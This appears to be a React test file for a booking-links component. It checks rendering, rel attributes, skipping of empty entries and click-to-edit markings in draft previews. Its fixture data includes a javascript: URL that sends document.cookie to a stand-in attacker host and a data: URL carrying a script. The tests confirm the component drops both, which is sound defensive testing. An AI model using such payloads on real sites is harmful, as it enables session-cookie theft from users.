import { screen, within } from '@testing-library/react';
import { markedElements, markedFields, placeContent, unmarkedFields } from '@/__tests__/support/click-to-edit';
import { renderWithProviders, testBlockContext } from '@/__tests__/support/render';
import HanoverBookingLinks from './HanoverBookingLinks';
import { toHanoverBookingLinks, type RawHanoverBookingLinks } from './toHanoverBookingLinks';

const raw: RawHanoverBookingLinks = [
  { name: ' June 2026 departure ', url: 'https://booking.hanover.example/camp?intake=2026-06' },
  null,
  { name: 'Steal your session', url: 'javascript:fetch("//evil.example?c="+document.cookie)' },
  { name: 'July 2026 departure', url: '/gb/book/july-2026/' },
  { name: '  ', url: '/gb/book/august-2026/' },
  { name: 'Data', url: 'data:text/html,<script>alert(1)</script>' },
];

describe('HanoverBookingLinks', () => {
  it('lists the safe booking links under "Book your place", the #book anchor', () => {
    const { container } = renderWithProviders(
      <HanoverBookingLinks {...toHanoverBookingLinks(raw, testBlockContext())!} />,
    );
    const section = screen.getByRole('region', { name: 'Book your place' });
    expect(section).toBe(container.querySelector('#book'));
    const links = within(section).getAllByRole('link');
    expect(links.map((link) => [link.textContent, link.getAttribute('href')])).toEqual([
      ['June 2026 departure', 'https://booking.hanover.example/camp?intake=2026-06'],
      ['July 2026 departure', '/gb/book/july-2026/'],
    ]);
    expect(within(section).getAllByRole('listitem')).toHaveLength(2);
  });

  it('opens the external booking site with rel noopener, and internal links without', () => {
    renderWithProviders(<HanoverBookingLinks {...toHanoverBookingLinks(raw, testBlockContext())!} />);
    expect(screen.getByRole('link', { name: 'June 2026 departure' })).toHaveAttribute('rel', 'noopener noreferrer');
    expect(screen.getByRole('link', { name: 'July 2026 departure' })).not.toHaveAttribute('rel');
    expect(screen.queryByText('Steal your session')).not.toBeInTheDocument();
    expect(screen.queryByText('Data')).not.toBeInTheDocument();
  });

  it('is skipped without a safe, named link', () => {
    expect(toHanoverBookingLinks(null, testBlockContext())).toBeNull();
    expect(toHanoverBookingLinks(undefined, testBlockContext())).toBeNull();
    expect(
      toHanoverBookingLinks(
        [null, { name: 'x', url: 'javascript:void(0)' }, { name: '', url: '/ok/' }],
        testBlockContext(),
      ),
    ).toBeNull();
  });
});

describe('HanoverBookingLinks in the admin’s preview (click-to-edit)', () => {
  /** As GraphQL answers: a product's HanoverBookingLinks, every object with its __typename. */
  const answer = () => ({
    products: [
      {
        __typename: 'Product',
        documentId: 'product-1',
        HanoverBookingLinks: raw!.map(
          (link, index) => link && { __typename: 'ComponentSharedBookingLink', id: `h${index}`, ...link },
        ),
      },
    ],
  });

  it('marks each link’s name with its field, in draft mode', () => {
    const placed = placeContent(answer());
    const view = toHanoverBookingLinks(placed.products[0].HanoverBookingLinks, testBlockContext())!;
    const { container } = renderWithProviders(<HanoverBookingLinks {...view} />);
    expect(unmarkedFields(container, placed)).toEqual([]);
    expect(markedFields(container)).toEqual(
      expect.arrayContaining([
        'HanoverBookingLinks.0.name=June 2026 departure',
        'HanoverBookingLinks.3.name=July 2026 departure',
      ]),
    );
  });

  it('marks nothing on a visitor’s page', () => {
    const view = toHanoverBookingLinks(answer().products[0].HanoverBookingLinks, testBlockContext())!;
    const { container } = renderWithProviders(<HanoverBookingLinks {...view} />);
    expect(markedElements(container)).toBe(0);
  });
});
